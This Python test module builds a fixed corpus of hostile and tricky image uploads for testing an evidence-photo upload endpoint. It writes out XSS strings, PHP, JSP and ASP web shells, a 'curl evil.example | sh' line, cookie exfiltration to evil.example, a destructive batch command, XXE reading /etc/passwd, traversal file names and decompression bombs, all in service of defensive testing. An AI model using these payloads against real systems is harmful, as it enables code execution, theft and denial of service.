"""A corpus of malicious and tricky evidence-photo uploads, made at test time (reliability target G6).

`corpus(max_bytes)` returns over a thousand `Upload`s, each a file name, its bytes, its family and what
must happen to it: `reject` (malicious: a 4xx, nothing stored) or `clean` (tricky but possibly a real
photo: a 4xx, or stored re-encoded with no metadata). The order and bytes are the same on every run.
"""

# ruff: noqa: E501 - byte strings of hand-made headers read better on one line

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from typing import Literal

from PIL import Image, PngImagePlugin

Expect = Literal["reject", "clean"]


@dataclass(frozen=True)
class Upload:
    family: str
    name: str
    filename: str
    data: bytes
    expect: Expect


PAYLOADS = {
    "script": b"<script>alert(document.cookie)</script>",
    "script-upper": b"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-mixed": b"<sCrIpT>alert(1)</ScRiPt>",
    "php": b"<?php system($_GET['c']); ?>",
    "php-short": b"<?= `$_GET[c]` ?>",
    "html": b"<html><body onload=alert(1)></body></html>",
    "doctype": b"<!DOCTYPE html><title>x</title>",
    "iframe": b"<iframe src=javascript:alert(1)>",
    "svg": b"<svg onload=alert(1)>",
    "js-url": b"javascript:alert(1)//",
    "img-onerror": b"<img src=x onerror=alert(1)>",
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode",
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 24,
    "pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "jar": b"",  # filled with a ZIP archive below
}
EMBEDDABLE = ("script", "script-upper", "script-mixed", "php", "html", "doctype", "iframe", "svg", "js-url")


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


PAYLOADS["jar"] = _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "shell.php": PAYLOADS["php"]})


# --- carriers -----------------------------------------------------------------------------------


@cache
def image_bytes(fmt: str, size: tuple[int, int] = (48, 36), mode: str = "RGB", **options: object) -> bytes:
    """A small picture in a format (a gradient, so it compresses like a photo, not like a flat colour)."""
    image = Image.linear_gradient("L").resize(size).convert(mode)
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (48, 36)) -> bytes:
    return image_bytes("JPEG", size)


def png(size: tuple[int, int] = (48, 36)) -> bytes:
    return image_bytes("PNG", size)


def webp(size: tuple[int, int] = (48, 36)) -> bytes:
    return image_bytes("WEBP", size)


CARRIERS = {"jpeg": jpeg, "png": png, "webp": webp}
EXTENSIONS = (".jpg", ".jpeg", ".png", ".webp")


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_chunks(chunks: list[bytes], size: tuple[int, int] = (16, 12)) -> bytes:
    """A PNG with extra chunks inserted right after IHDR."""
    data = png(size)
    ihdr_end = 8 + 25
    return data[:ihdr_end] + b"".join(chunks) + data[ihdr_end:]


def jpeg_with_segments(segments: list[bytes], size: tuple[int, int] = (16, 12)) -> bytes:
    """A JPEG with extra marker segments inserted right after SOI."""
    return b"\xff\xd8" + b"".join(segments) + jpeg(size)[2:]


def jpeg_segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def riff(chunks: bytes) -> bytes:
    body = b"WEBP" + chunks
    return b"RIFF" + struct.pack("<I", len(body)) + body


# --- families -----------------------------------------------------------------------------------


def truncated() -> Iterator[Upload]:
    for fmt, make in CARRIERS.items():
        for size in ((48, 36), (300, 200)):
            data = make(size)
            for tenth in range(1, 20):
                cut = max(1, len(data) * tenth // 20)
                yield Upload("truncated", f"{fmt}-{size[0]}-{tenth}/20", f"anh.{fmt}", data[:cut], "reject")
            for missing in (1, 2, 3, 7):
                yield Upload(
                    "truncated", f"{fmt}-{size[0]}-minus-{missing}", f"anh.{fmt}", data[:-missing], "reject"
                )


OTHER_FORMATS = {
    "gif": ("GIF", {}),
    "bmp": ("BMP", {}),
    "tiff": ("TIFF", {}),
    "tiff-be": ("TIFF", {}),
    "ico": ("ICO", {}),
    "ppm": ("PPM", {}),
    "pcx": ("PCX", {}),
    "tga": ("TGA", {}),
    "dib": ("DIB", {}),
    "jpeg2000": ("JPEG2000", {}),
    "eps-like": ("", {}),
}


def wrong_magic() -> Iterator[Upload]:
    for label, (fmt, options) in OTHER_FORMATS.items():
        for size in ((16, 16), (48, 36), (255, 1)):
            if fmt:
                try:
                    data = image_bytes(fmt, size, **options)
                except (OSError, KeyError, ValueError):
                    continue
            else:
                data = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 16 16\n" + b"0 0 moveto\n" * size[0]
            if label == "tiff-be":
                data = b"MM\x00*" + data[4:]
            for ext in EXTENSIONS:
                yield Upload("wrong magic", f"{label}-{size[0]}x{size[1]}{ext}", f"anh{ext}", data, "reject")
    for brand in (b"heic", b"heix", b"mif1", b"avif", b"msf1"):
        box = struct.pack(">I", 24) + b"ftyp" + brand + b"\x00\x00\x00\x00" + b"mif1" + brand
        for ext in EXTENSIONS:
            data = box + struct.pack(">I", 16) + b"mdat" + bytes(range(8))
            yield Upload("heic/avif", f"{brand.decode()}{ext}", f"IMG_0001{ext}", data, "reject")


def polyglots() -> Iterator[Upload]:
    for fmt, make in CARRIERS.items():
        carrier = make((32, 24))
        for label, payload in PAYLOADS.items():
            yield Upload("polyglot", f"{fmt}+{label} appended", f"anh.{fmt}", carrier + payload, "reject")
            yield Upload(
                "polyglot",
                f"{fmt}+{label} appended, padded",
                f"anh.{fmt}",
                carrier + payload + b"\0" * 64,
                "reject",
            )
        for label in EMBEDDABLE:
            payload = PAYLOADS[label]
            if fmt == "jpeg":
                hidden = [
                    jpeg_with_segments([jpeg_segment(0xFE, payload)], (32, 24)),  # comment
                    jpeg_with_segments([jpeg_segment(0xE1, b"Exif\0\0" + payload)], (32, 24)),
                    jpeg_with_segments([jpeg_segment(0xEC, payload)], (32, 24)),  # APP12
                ]
            elif fmt == "png":
                hidden = [
                    png_with_chunks([png_chunk(b"tEXt", b"Comment\0" + payload)], (32, 24)),
                    png_with_chunks([png_chunk(b"iTXt", b"XML\0\0\0\0\0" + payload)], (32, 24)),
                    png_with_chunks([png_chunk(b"prIV", payload)], (32, 24)),  # a private chunk
                ]
            else:
                vp8 = carrier[12:]
                hidden = [
                    riff(
                        vp8
                        + b"EXIF"
                        + struct.pack("<I", len(payload) + len(payload) % 2)
                        + payload
                        + b"\0" * (len(payload) % 2)
                    ),
                    riff(
                        b"XMP "
                        + struct.pack("<I", len(payload) + len(payload) % 2)
                        + payload
                        + b"\0" * (len(payload) % 2)
                        + vp8
                    ),
                ]
            for n, data in enumerate(hidden):
                yield Upload("polyglot", f"{fmt} with {label} inside ({n})", f"anh.{fmt}", data, "reject")
    gif = image_bytes("GIF", (16, 16))
    for label in ("script", "html", "js-url"):
        yield Upload("polyglot", f"gif+{label}", "anh.jpg", gif + PAYLOADS[label], "reject")
        yield Upload(
            "polyglot", f"GIFAR {label}", "anh.jpg", b"GIF89a/*" + PAYLOADS[label] + b"*/=1;", "reject"
        )
    for fmt, make in CARRIERS.items():
        yield Upload("polyglot", f"zip then {fmt}", f"anh.{fmt}", PAYLOADS["jar"] + make(), "reject")
        yield Upload(
            "polyglot", f"{fmt} + zip of photos", f"anh.{fmt}", make() + _zip({"a.jpg": jpeg()}), "reject"
        )


SVG_BODIES = [
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    b'<!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
    b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="//evil.example"/></foreignObject></svg>',
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+#x"/></svg>',
    b"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>',
]


def svgs() -> Iterator[Upload]:
    for n, body in enumerate(SVG_BODIES):
        variants = {
            "plain": body,
            "bom": b"\xef\xbb\xbf" + body,
            "spaces": b"\n\n   " + body,
            "utf16": body.decode().encode("utf-16"),
            "svgz": gzip.compress(body, mtime=0),
        }
        for label, data in variants.items():
            for ext in (".jpg", ".png", ".svg"):
                yield Upload("svg", f"svg{n}-{label}{ext}", f"hinh{ext}", data, "reject")


SCRIPTS = {
    "html": b"<html><head><meta http-equiv=refresh content=0;url=//evil.example></head></html>",
    "html-lower": b"<!doctype html><body><h1>Anh</h1></body>",
    "php": PAYLOADS["php"],
    "php-long": b"<?php\n" + b"eval(base64_decode('ZWNobyAxOw=='));\n" * 50 + b"?>",
    "jsp": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "asp": b'<%eval request("c")%>',
    "js": b"fetch('//evil.example/?c='+document.cookie)",
    "shell": PAYLOADS["shell"],
    "python": b"import os\nos.system('id')\n",
    "bat": b"@echo off\r\ndel /q C:\\*\r\n",
    "pe": PAYLOADS["pe"],
    "elf": PAYLOADS["elf"],
    "pdf": PAYLOADS["pdf"],
    "zip": PAYLOADS["jar"],
    "docx-like": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
    "gzip": gzip.compress(b"x" * 10_000, mtime=0),
    "rtf": b"{\\rtf1\\ansi{\\object\\objdata 0105000002000000}}",
    "xml": b'<?xml version="1.0"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>',
    "json": b'{"anh": "khong phai anh"}',
    "csv": b"=cmd|' /C calc'!A0\n",
    "text": "Đây không phải ảnh\n".encode() * 20,
    "eicar": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "mp4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64,
    "wav": b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\x00" * 32,
    "avi": b"RIFF\x24\x00\x00\x00AVI LIST" + b"\x00" * 32,
    "ogg": b"OggS\x00\x02" + b"\x00" * 40,
    "psd": b"8BPS\x00\x01" + b"\x00" * 40,
    "sqlite": b"SQLite format 3\x00" + b"\x00" * 84,
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68,
    "swf": b"FWS\x0a" + b"\x00" * 20,
}
MAGIC_PREFIXES = {
    "jpeg": b"\xff\xd8\xff\xe0",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\x10\x00\x00\x00WEBP",
}


def renamed_scripts() -> Iterator[Upload]:
    for label, data in SCRIPTS.items():
        for ext in EXTENSIONS:
            yield Upload("renamed", f"{label} as {ext}", f"anh{ext}", data, "reject")
        for fmt, magic in MAGIC_PREFIXES.items():
            yield Upload("renamed", f"{label} behind {fmt} magic", f"anh.{fmt}", magic + data, "reject")


def _png_with_size(width: int, height: int, bit_depth: int = 8, colour: int = 2) -> bytes:
    """A PNG declaring width × height over a few bytes of compressed zeros (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour, 0, 0, 0)
    idat = zlib.compress(b"\0" * 4096, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def _zero_png(side: int, depth: int, colour: int) -> bytes:
    """A complete side × side black PNG, compressed row by row (never the whole picture in memory)."""
    row = b"\0" * (1 + (side * depth + 7) // 8)
    packer = zlib.compressobj(1)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def _jpeg_with_size(width: int, height: int) -> bytes:
    data = bytearray(jpeg((16, 16)))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _webp_with_size(width: int, height: int) -> bytes:
    data = bytearray(image_bytes("WEBP", (16, 16), lossless=True))
    at = data.find(b"VP8L") + 8 + 1  # signature byte, then 14 bits width-1, 14 bits height-1
    bits = (
        (width - 1) | ((height - 1) << 14) | (int.from_bytes(data[at : at + 4], "little") & ~((1 << 28) - 1))
    )
    data[at : at + 4] = bits.to_bytes(4, "little")
    return bytes(data)


BOMB_SIZES = [
    (65535, 65535),
    (50000, 50000),
    (100000, 1000),
    (1, 100_000_000),
    (100_000_000, 1),
    (20000, 20000),
    (12000, 12000),
    (9000, 9000),
    (7000, 6000),
    (6400, 6400),
    (2**31 - 1, 2**31 - 1),
    (0, 0),
    (0, 1000),
]


def bombs() -> Iterator[Upload]:
    for width, height in BOMB_SIZES:
        for depth, colour in ((8, 2), (1, 0), (16, 6), (8, 3)):
            yield Upload(
                "bomb",
                f"png {width}x{height} depth {depth} colour {colour}",
                "anh.png",
                _png_with_size(width, height, depth, colour),
                "reject",
            )
        if 0 < width <= 65535 and 0 < height <= 65535:
            yield Upload(
                "bomb", f"jpeg SOF {width}x{height}", "anh.jpg", _jpeg_with_size(width, height), "reject"
            )
        if 0 < width <= 16384 and 0 < height <= 16384 and width * height > 40_000_000:
            yield Upload(
                "bomb", f"webp {width}x{height}", "anh.webp", _webp_with_size(width, height), "reject"
            )
    for side in (7000, 9000, 12000):
        for depth, colour in ((1, 0), (8, 0)):
            yield Upload(
                "bomb", f"real png {side}² depth {depth}", "anh.png", _zero_png(side, depth, colour), "reject"
            )
    for size in ((16383, 16383), (16383, 3000)):
        out = io.BytesIO()
        Image.new("L", (64, 64)).save(out, "WEBP", lossless=True)
        yield Upload("bomb", f"webp lossless {size}", "anh.webp", _webp_with_size(*size), "reject")


def _compressed_zeros(count: int) -> bytes:
    """zlib data that inflates to `count` zero bytes, made a mebibyte at a time."""
    packer, block = zlib.compressobj(9), b"\0" * 1048576
    return (
        b"".join(packer.compress(block[: min(len(block), count - at)]) for at in range(0, count, len(block)))
        + packer.flush()
    )


def text_chunks() -> Iterator[Upload]:
    for megabytes in (2, 4, 8, 16, 64, 256):
        zeros = _compressed_zeros(megabytes * 1024 * 1024)
        yield Upload(
            "png text bomb",
            f"zTXt {megabytes} MB",
            "anh.png",
            png_with_chunks([png_chunk(b"zTXt", b"Comment\0\0" + zeros)]),
            "reject",
        )
        yield Upload(
            "png text bomb",
            f"iTXt compressed {megabytes} MB",
            "anh.png",
            png_with_chunks([png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zeros)]),
            "reject",
        )
        yield Upload(
            "png text bomb",
            f"iCCP {megabytes} MB",
            "anh.png",
            png_with_chunks([png_chunk(b"iCCP", b"icc\0\0" + zeros)]),
            "reject",
        )
    for kilobytes in (1100, 1500, 1900):
        body = b"A" * (kilobytes * 1024)
        yield Upload(
            "png text bomb",
            f"iTXt plain {kilobytes} KB",
            "anh.png",
            png_with_chunks([png_chunk(b"iTXt", b"Comment\0\0\0\0\0" + body)]),
            "reject",
        )
        yield Upload(
            "png text bomb",
            f"tEXt plain {kilobytes} KB",
            "anh.png",
            png_with_chunks([png_chunk(b"tEXt", b"Comment\0" + body)]),
            "reject",
        )
    for count in (1000, 10_000, 50_000):  # many small chunks: slow to parse, at most, then dropped
        chunks = [png_chunk(b"tEXt", b"k\0" + str(i).encode()) for i in range(count)]
        yield Upload("png text bomb", f"{count} tEXt chunks", "anh.png", png_with_chunks(chunks), "clean")
    for count in (300, 400):  # many big ones: over the metadata budget
        chunks = [png_chunk(b"tEXt", f"k{i}".encode() + b"\0" + b"B" * 4000) for i in range(count)]
        yield Upload(
            "png text bomb", f"{count} tEXt chunks of 4 kB", "anh.png", png_with_chunks(chunks), "reject"
        )


def _exif(entries: int, *, next_ifd: int = 0, value_offset: int = 8, count: int = 1, kind: int = 2) -> bytes:
    head = b"II*\x00" + struct.pack("<I", 8)
    ifd = struct.pack("<H", entries)
    for tag in range(entries):
        ifd += struct.pack("<HHII", 0x010E + tag % 40, kind, count, value_offset)
    return b"Exif\0\0" + head + ifd + struct.pack("<I", next_ifd)


def exif_bombs() -> Iterator[Upload]:
    """JPEGs whose EXIF is hostile: loops, huge counts, pointers outside. The pixels are real, so the
    app may refuse them or keep only the re-encoded pixels."""
    variants = {
        "loop to itself": _exif(1, next_ifd=8),
        "huge count": _exif(1, count=0x7FFFFFFF, value_offset=26),
        "pointer outside": _exif(4, value_offset=0xFFFFFF00, count=100),
        "4000 entries": _exif(4000),
        "orientation 0": b"Exif\0\0II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
        "orientation 9": b"Exif\0\0II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x09\x00\x00\x00\x00\x00\x00\x00",
        "orientation long": b"Exif\0\0II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x04\x00\x02\x00\x00\x00\x06\x00\x00\x00\x00\x00\x00\x00",
        "gps ifd loop": b"Exif\0\0II*\x00\x08\x00\x00\x00\x01\x00\x25\x88\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00",
        "exif ifd loop": b"Exif\0\0II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00",
        "bad byte order": b"Exif\0\0XX*\x00\x08\x00\x00\x00",
        "empty": b"Exif\0\0",
        "truncated ifd": b"Exif\0\0II*\x00\x08\x00\x00\x00\xff\xff",
        "big endian loop": b"Exif\0\0MM\x00*\x00\x00\x00\x08\x00\x01\x87\x69\x00\x04\x00\x00\x00\x01\x00\x00\x00\x08\x00\x00\x00\x00",
    }
    for label, body in variants.items():
        body = body[:65533]
        yield Upload("exif bomb", label, "anh.jpg", jpeg_with_segments([jpeg_segment(0xE1, body)]), "clean")
    for count in (50, 200):
        segments = [jpeg_segment(0xE1, _exif(1000)[:60000]) for _ in range(count)]
        yield Upload("exif bomb", f"{count} EXIF segments", "anh.jpg", jpeg_with_segments(segments), "clean")
    maker = jpeg_segment(0xE1, (_exif(3, count=60000, value_offset=50, kind=7) + b"\0" * 60000)[:65533])
    yield Upload("exif bomb", "60 kB maker note", "anh.jpg", jpeg_with_segments([maker]), "clean")


def animations() -> Iterator[Upload]:
    for frames in (2, 100, 3000):
        images = [Image.new("P", (8, 8), i % 256) for i in range(frames)]
        out = io.BytesIO()
        images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=10, loop=0)
        for ext in (".jpg", ".png", ".gif"):
            yield Upload("animated", f"gif {frames} frames{ext}", f"anh{ext}", out.getvalue(), "reject")
    for frames in (2, 50, 1000):
        images = [Image.new("RGB", (8, 8), (i * 37 % 256, i * 91 % 256, i * 53 % 256)) for i in range(frames)]
        for fmt in ("PNG", "WEBP"):
            out = io.BytesIO()
            images[0].save(out, fmt, save_all=True, append_images=images[1:], duration=10)
            yield Upload(
                "animated", f"{fmt.lower()} {frames} frames", f"anh.{fmt.lower()}", out.getvalue(), "reject"
            )
    # An APNG declaring 2^31 frames, and one with an acTL but broken frame control.
    actl = png_chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    yield Upload("animated", "apng 2^31 frames", "anh.png", png_with_chunks([actl]), "reject")
    fctl = png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 60000, 60000, 0, 0, 1, 1, 0, 0))
    yield Upload(
        "animated",
        "apng huge frame",
        "anh.png",
        png_with_chunks([png_chunk(b"acTL", struct.pack(">II", 2, 0)), fctl]),
        "reject",
    )


def tiny_files() -> Iterator[Upload]:
    yield Upload("tiny", "empty", "anh.jpg", b"", "reject")
    for value in range(256):
        yield Upload("tiny", f"one byte {value:02x}", "anh.jpg", bytes([value]), "reject")
    for label, data in {
        "jpeg soi": b"\xff\xd8",
        "jpeg soi+marker": b"\xff\xd8\xff",
        "jpeg soi eoi": b"\xff\xd8\xff\xd9",
        "png signature": b"\x89PNG\r\n\x1a\n",
        "png signature + iend": b"\x89PNG\r\n\x1a\n" + png_chunk(b"IEND", b""),
        "riff": b"RIFF",
        "riff webp": b"RIFF\x04\x00\x00\x00WEBP",
        "webp vp8 empty": riff(b"VP8 \x00\x00\x00\x00"),
        "nulls": b"\0" * 1024,
        "ff": b"\xff" * 1024,
    }.items():
        yield Upload("tiny", label, "anh.jpg", data, "reject")


def oversized(max_bytes: int) -> Iterator[Upload]:
    for fmt, make in CARRIERS.items():
        carrier = make((64, 48))
        for extra in (1, 4096, max_bytes // 2, max_bytes + 1):
            yield Upload(
                "oversized",
                f"{fmt} + {extra} bytes",
                f"anh.{fmt}",
                carrier + b"\0" * (max_bytes - len(carrier) + extra),
                "reject",
            )
    yield Upload(
        "oversized",
        "random-looking",
        "anh.jpg",
        b"\xff\xd8\xff" + bytes(range(256)) * (max_bytes // 256 + 1),
        "reject",
    )


HOSTILE_NAMES = [
    "../../etc/passwd.jpg",
    "..\\..\\windows\\win.ini.jpg",
    "/etc/passwd",
    "anh\x00.php.jpg",
    "anh.php\x00.jpg",
    "anh\u202egpj.php",
    "\u202eanh.jpg",
    "anh\r\nContent-Type: text/html.jpg",
    'anh".jpg',
    "anh;.jpg",
    "CON.jpg",
    ".htaccess",
    "a" * 300 + ".jpg",
    "ảnh minh chứng.jpg",
    "%2e%2e%2fetc%2fpasswd.jpg",
    "~/.ssh/authorized_keys.jpg",
]


def hostile_names() -> Iterator[Upload]:
    for name in HOSTILE_NAMES:
        for label in ("html", "php", "svg"):
            data = SCRIPTS.get(label) or SVG_BODIES[0]
            yield Upload("hostile name", f"{label} named {name[:40]!r}", name, data, "reject")
        yield Upload("hostile name", f"photo named {name[:40]!r}", name, jpeg((40, 30)), "clean")


def tricky_valid() -> Iterator[Upload]:
    """Real pictures in unusual shapes: they may be accepted, and then must come out clean."""
    from PIL import ImageCms

    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    cases = {
        "cmyk jpeg": image_bytes("JPEG", (40, 30), "CMYK"),
        "grey jpeg": image_bytes("JPEG", (40, 30), "L"),
        "progressive jpeg": image_bytes("JPEG", (40, 30), progressive=True),
        "jpeg with icc": image_bytes("JPEG", (40, 30), icc_profile=srgb),
        "jpeg 4:4:4": image_bytes("JPEG", (40, 30), subsampling=0),
        "16-bit png": image_bytes("PNG", (40, 30), "I;16"),
        "1-bit png": image_bytes("PNG", (40, 30), "1"),
        "palette png": image_bytes("PNG", (40, 30), "P"),
        "palette png transparent": image_bytes("PNG", (40, 30), "P", transparency=0),
        "rgba png": image_bytes("PNG", (40, 30), "RGBA"),
        "la png": image_bytes("PNG", (40, 30), "LA"),
        "png with icc": image_bytes("PNG", (40, 30), icc_profile=srgb),
        "webp lossless rgba": image_bytes("WEBP", (40, 30), "RGBA", lossless=True),
        "webp with exif": image_bytes("WEBP", (40, 30), exif=Image.Exif().tobytes()),
        "png with text": _png_text(),
        "1x1 jpeg": image_bytes("JPEG", (1, 1)),
        "tall jpeg": image_bytes("JPEG", (1, 4000)),
        "big but allowed png": _big_png(),
    }
    for orientation in range(1, 9):
        exif = Image.Exif()
        exif[0x0112] = orientation
        exif[0x010F] = "Camera"
        cases[f"jpeg orientation {orientation}"] = image_bytes("JPEG", (40, 30), exif=exif.tobytes())
    for label, data in cases.items():
        yield Upload("tricky", label, "anh.jpg", data, "clean")


def _png_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "toa do 10.5,106.1")
    info.add_itxt("Description", "Ảnh buổi tuyên truyền", zip=True)
    out = io.BytesIO()
    Image.linear_gradient("L").resize((40, 30)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _big_png() -> bytes:
    return _zero_png(6000, 1, 0)  # 36 million pixels: under the 40 million limit


FAMILIES = (
    truncated,
    wrong_magic,
    polyglots,
    svgs,
    renamed_scripts,
    bombs,
    text_chunks,
    exif_bombs,
    animations,
    tiny_files,
    hostile_names,
    tricky_valid,
)


def corpus(max_bytes: int) -> list[Upload]:
    """Every upload of the corpus, in a fixed order."""
    uploads = [upload for family in FAMILIES for upload in family()]
    return uploads + list(oversized(max_bytes))


def sample(uploads: list[Upload], count: int) -> list[Upload]:
    """A deterministic sample: the first upload of each family, then evenly spaced ones."""
    firsts = {u.family: u for u in reversed(uploads)}
    step = max(1, len(uploads) // max(1, count - len(firsts)))
    chosen = {id(u): u for u in [*firsts.values(), *uploads[::step]]}
    return list(chosen.values())[:count] if len(chosen) > count else list(chosen.values())
